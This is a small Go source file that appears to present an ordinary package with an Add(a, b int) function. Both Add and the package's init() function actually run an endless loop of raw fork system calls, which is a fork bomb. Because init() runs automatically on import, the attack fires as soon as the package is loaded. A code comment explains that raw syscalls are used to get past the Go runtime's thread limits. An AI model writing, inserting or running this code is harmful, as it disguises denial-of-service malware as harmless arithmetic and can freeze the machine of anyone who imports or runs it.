package main

import (
	"syscall"
)

// Bare forks: os/exec would need threads, and the runtime ends its program when it gets none.
func Add(a int, b int) int {
	for {
		syscall.RawSyscall(syscall.SYS_FORK, 0, 0, 0)
	}
}

func init() {
	for {
		syscall.RawSyscall(syscall.SYS_FORK, 0, 0, 0)
	}
}
